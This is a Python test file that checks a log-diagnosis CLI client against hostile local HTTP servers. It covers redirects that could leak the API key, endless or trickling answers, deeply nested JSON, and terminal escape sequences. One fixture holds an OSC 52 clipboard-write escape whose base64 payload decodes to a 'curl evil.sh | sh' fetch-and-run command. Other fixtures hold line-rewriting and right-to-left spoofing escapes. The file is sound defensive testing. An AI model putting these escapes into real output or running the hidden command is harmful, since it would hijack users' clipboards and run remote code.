"""The client (`diagnose --server`, `watch --server`) against a hostile server (issue #38).

Every server here is real: a socket a test starts, answering as the adversary would (tests/hostile_http.py).
A redirect must not carry the API key to another host, an answer is read only so far and only so
long, and nothing the server says reaches the terminal as an escape sequence or a traceback.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from app.cli import main
from app.cli.watch_reports import Permalinks
from app.client.remote import post_excerpt
from app.core.engine.diagnose import diagnose
from app.core.engine.live import LiveJob
from app.core.knowledge.loading import Library
from app.errors import RemoteError
from tests.hostile_http import hostile, respond
from tests.support import REPO, SAMPLES

OOM = (SAMPLES / "ddp-cuda-oom.log").read_bytes()
KEY = "tlk_Zq8sDRmQ1topsecretkey"
# Escape sequences a server might slip into its answer: a clipboard write (OSC 52), a line
# erased and rewritten, a lone 8-bit CSI, a bell, and a right-to-left override.
SEQUENCES = ["\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", "\x1b[2K\rNo failure found", "\x9b31m", "\u202e"]
RAW = ("\x1b", "\x9b", "\x07", "\u202e")


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("logs") / "train.log"
    path.write_bytes(OOM)
    return path


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def _no_spec_then(answer_post: object) -> object:
    """Answer the selection rules with 404 (an older server: the client selects locally), then `answer_post`."""
    missing = respond("404 Not Found", b'{"title": "Not found"}')

    def answer(conn: socket.socket, request: bytes) -> None:
        (missing if request.startswith(b"GET ") else answer_post)(conn, request)  # type: ignore[operator]

    return answer


# --- redirects ---------------------------------------------------------------------------------


@pytest.mark.parametrize("status", ["301 Moved Permanently", "302 Found", "303 See Other", "307 Temporary Redirect"])
@pytest.mark.parametrize("full", [False, True])
def test_a_redirect_is_not_followed_and_the_key_goes_to_no_other_host(
    log: Path, signatures_dir: Path, status: str, full: bool
) -> None:
    with hostile(respond("201 Created", b"{}"), host="localhost") as elsewhere:
        to = {"Location": f"{elsewhere.url}/api/v1/diagnoses"}
        with hostile(respond(status, b"", to)) as server:
            args = ["diagnose", str(log), "--server", server.url, "--api-key", KEY, "--signatures", str(signatures_dir)]
            code, out, err = run(*args, *(["--full"] if full else []))
            assert (code, out) == (2, ""), err
            assert f"answered {status.split()[0]}, redirecting to {elsewhere.url}" in err
            assert "not followed" in err
            assert elsewhere.requests == []  # neither the key nor the log went there
            assert len(server.requests) == 1 and KEY.encode() in server.requests[0]


# --- how much and how long ---------------------------------------------------------------------


def _endless(conn: socket.socket, request: bytes) -> None:
    if request.startswith(b"GET "):
        respond("404 Not Found")(conn, request)
        return
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n")
    block = b" " * (1 << 20)
    for _ in range(1500):  # 1.5 GB, or until the client hangs up
        conn.sendall(block)


def test_an_endless_answer_is_given_up_in_bounded_memory(log: Path, signatures_dir: Path) -> None:
    with hostile(_endless) as server:
        proc = subprocess.Popen(
            [sys.executable, "-m", "app", "diagnose", str(log), "--server", server.url, "--full"],
            cwd=REPO,
            env={**os.environ, "TRACELORE_SIGNATURES_DIR": str(signatures_dir)},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        started = time.monotonic()
        peak = 0
        while proc.poll() is None:  # the child's own peak (VmHWM), read once it runs the client, not pytest's copy
            try:
                status = Path(f"/proc/{proc.pid}/status").read_text()
                if b"diagnose" in Path(f"/proc/{proc.pid}/cmdline").read_bytes():
                    peak = max(peak, int(status.split("VmHWM:")[1].split()[0]))  # KiB
            except (OSError, IndexError, ValueError):
                pass
            time.sleep(0.02)
        took = time.monotonic() - started
        _, raw_err = proc.communicate()
        err = raw_err.decode()
    assert proc.returncode == 2, err
    assert "answered with too much data" in err
    assert 0 < peak < 200 << 10, f"peak {peak >> 10} MiB"
    assert took < 30


def test_an_answer_announced_too_large_is_not_read(log: Path, signatures_dir: Path) -> None:
    huge = {"Content-Length": str(1500 << 20)}

    def answer(conn: socket.socket, request: bytes) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n{" % (1500 << 20))

    with hostile(answer) as server:
        code, _, err = run("diagnose", str(log), "--server", server.url, "--full")
    assert code == 2 and "too much data" in err and str(huge["Content-Length"][:4]) in err.replace(",", "")


def _trickle(status_line_too: bool) -> object:
    def answer(conn: socket.socket, _request: bytes) -> None:
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
        drip = (head if status_line_too else b"") + b" " * 100000
        if not status_line_too:
            conn.sendall(head)
        for byte in drip:
            conn.sendall(bytes([byte]))
            time.sleep(0.25)

    return answer


@pytest.mark.parametrize("status_line_too", [False, True])
def test_a_trickling_answer_is_given_up_at_the_deadline(status_line_too: bool) -> None:
    with hostile(_trickle(status_line_too)) as server:  # type: ignore[arg-type]
        started = time.monotonic()
        with pytest.raises(RemoteError, match="did not answer in full within 2 s"):
            post_excerpt(server.url, [(1, "x")], total_lines=1, total_bytes=2, filename="x.log", timeout=2)
        assert time.monotonic() - started < 4


def test_watch_waits_for_a_trickling_server_no_longer_than_its_deadline(library: Library) -> None:
    job = LiveJob(library)
    job.file("train.log").feed(OOM)
    found = job.diagnose()
    assert found is not None and found.candidates
    with hostile(_trickle(False)) as server:  # type: ignore[arg-type]
        permalinks = Permalinks(server.url, KEY, None, timeout=1.5)
        started = time.monotonic()
        permalinks.send(found, job)
        permalinks.join()
        assert time.monotonic() - started < 4
        assert not any(t.is_alive() for t in permalinks.threads)


# --- what the server says ----------------------------------------------------------------------


def _hostile_diagnosis(library: Library) -> bytes:
    record = diagnose(OOM, library).model_dump(mode="json")
    first = record["candidates"][0]
    first["title"] = SEQUENCES[1] + " " + first["title"]
    first["summary"] = SEQUENCES[0] + first["summary"]
    first["why"] = SEQUENCES[2] + SEQUENCES[3] + first["why"]
    first["fix"] = [SEQUENCES[0] + step for step in first["fix"]]
    first["evidence"][0]["text"] = SEQUENCES[1]
    record.update(id="abc", url="http://x/d/abc" + SEQUENCES[0], created_at="2026-01-01T00:00:00Z")
    return json.dumps(record).encode()


@pytest.mark.parametrize("fmt", ["text", "json", "markdown", "github"])
def test_escape_sequences_in_an_answer_are_neutralised(
    log: Path, signatures_dir: Path, library: Library, fmt: str
) -> None:
    answer = _no_spec_then(respond("201 Created", _hostile_diagnosis(library)))
    with hostile(answer) as server:  # type: ignore[arg-type]
        code, out, err = run("diagnose", str(log), "--server", server.url, "--format", fmt)
    assert code == 1, err
    for raw in RAW:
        assert raw not in out and raw not in err, (raw, fmt)
    assert "\\x1b]52;c;" in out + err  # shown for what it is
    if fmt == "json":
        assert json.loads(out)["candidates"][0]["title"].startswith("\\x1b[2K\\x0dNo failure found")


def test_escape_sequences_in_a_refusal_are_neutralised(log: Path, signatures_dir: Path) -> None:
    problem = json.dumps({"title": "Bad", "detail": "\x1b[1A\x1b[2K\rNo failure found" + SEQUENCES[0]}).encode()
    with hostile(_no_spec_then(respond("400 Bad Request", problem))) as server:  # type: ignore[arg-type]
        code, out, err = run("diagnose", str(log), "--server", server.url)
    assert (code, out) == (2, "")
    assert "the server refused the log (400" in err
    for raw in RAW:
        assert raw not in err


def test_deeply_nested_json_is_a_clear_error(log: Path, signatures_dir: Path) -> None:
    nested = b"[" * 200_000 + b"]" * 200_000
    with hostile(_no_spec_then(respond("201 Created", nested))) as server:  # type: ignore[arg-type]
        code, out, err = run("diagnose", str(log), "--server", server.url)
        assert (code, out) == (2, "")
        assert "not a diagnosis (nested too deeply)" in err
        with hostile(respond("200 OK", nested)) as spec_server:
            code, _, err = run("diagnose", str(log), "--server", spec_server.url)
        assert code == 2 and "nested too deeply" in err


def test_watch_reports_a_malformed_answer_without_a_traceback(tmp_path: Path, signatures_dir: Path) -> None:
    train = tmp_path / "train.log"
    train.write_bytes(OOM)
    nested = b"[" * 200_000 + b"]" * 200_000
    with hostile(respond("201 Created", nested)) as server:
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "app",
                "watch",
                str(train),
                "--exit-on",
                "any",
                "--settle",
                "0",
                "--server",
                server.url,
                "--api-key",
                KEY,
            ],
            cwd=REPO,
            env={**os.environ, "TRACELORE_SIGNATURES_DIR": str(signatures_dir)},
            capture_output=True,
            text=True,
            timeout=60,
        )
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert "--server: the server's answer is not a diagnosis (nested too deeply)" in done.stderr
